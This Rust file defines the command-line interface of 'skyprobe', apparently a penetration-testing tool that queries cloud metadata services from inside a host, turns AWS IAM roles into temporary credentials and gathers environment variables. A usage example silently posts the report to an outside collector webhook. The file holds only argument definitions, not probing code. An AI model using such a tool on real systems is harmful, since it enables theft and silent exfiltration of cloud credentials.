use clap::Parser;

/// SKYPROBE – In-host cloud metadata service prober
#[derive(Parser, Debug)]
#[command(
    name = "skyprobe",
    version,
    about = "SKYPROBE – In-host cloud metadata service prober",
    long_about = r#"
SKYPROBE runs inside a host or container under assessment and checks which
cloud metadata service is reachable from that vantage point.

CLOUD METADATA:
  • Litmus test per provider (AWS, GCP, DigitalOcean, Azure)
  • First confirmed provider is exploited, the scan is not exhaustive
  • AWS IAM role names are chained into their temporary credentials
  • Missing or gated paths are skipped, never fatal

HOST RECON:
  • Environment variables (shell noise filtered out)
  • Internal endpoints referenced by the environment and /etc/hosts

OUTPUT:
  • JSON report on stdout (suppress with --silent)
  • Optional POST of the same report to a webhook
"#,
    after_help = r#"EXAMPLES:

  skyprobe
  skyprobe --cloud aws
  skyprobe --no-env --no-net --cloud gcp
  skyprobe --silent --webhook https://collector.example.com/in
  skyprobe --list-providers"#
)]
pub struct Cli {
    // ═══════════════════════════════════════════════════════════════════
    // CATEGORIES
    // ═══════════════════════════════════════════════════════════════════

    /// Disables enumerating for cloud metadata endpoints
    #[arg(long = "no-cloud", help_heading = "CATEGORIES")]
    pub no_cloud: bool,

    /// Disables enumerating environment for internal network endpoints
    #[arg(long = "no-net", help_heading = "CATEGORIES")]
    pub no_net: bool,

    /// Disables enumerating environment variables
    #[arg(long = "no-env", help_heading = "CATEGORIES")]
    pub no_env: bool,

    // ═══════════════════════════════════════════════════════════════════
    // CLOUD PROBING
    // ═══════════════════════════════════════════════════════════════════

    /// Only probe this cloud provider (aws, gcp, do, azure)
    #[arg(long = "cloud", value_name = "PROVIDER", help_heading = "CLOUD PROBING")]
    pub cloud: Option<String>,

    /// Per-request timeout in milliseconds
    #[arg(
        long,
        default_value = "2000",
        value_parser = clap::value_parser!(u64).range(1..),
        help_heading = "CLOUD PROBING"
    )]
    pub timeout: u64,

    /// Maximum providers probed concurrently in discovery mode
    #[arg(long, default_value = "4", help_heading = "CLOUD PROBING")]
    pub threads: usize,

    /// List known cloud providers and exit
    #[arg(long = "list-providers", help_heading = "CLOUD PROBING")]
    pub list_providers: bool,

    // ═══════════════════════════════════════════════════════════════════
    // OUTPUT
    // ═══════════════════════════════════════════════════════════════════

    /// Webhook endpoint to push recovered data to
    #[arg(long, env = "SKYPROBE_WEBHOOK", help_heading = "OUTPUT")]
    pub webhook: Option<String>,

    /// Do not output results to stdout
    #[arg(short, long, help_heading = "OUTPUT")]
    pub silent: bool,

    /// Show debug logging
    #[arg(short, long, help_heading = "OUTPUT")]
    pub verbose: bool,

    /// Do not print the banner
    #[arg(long = "no-banner", help_heading = "OUTPUT")]
    pub no_banner: bool,
}
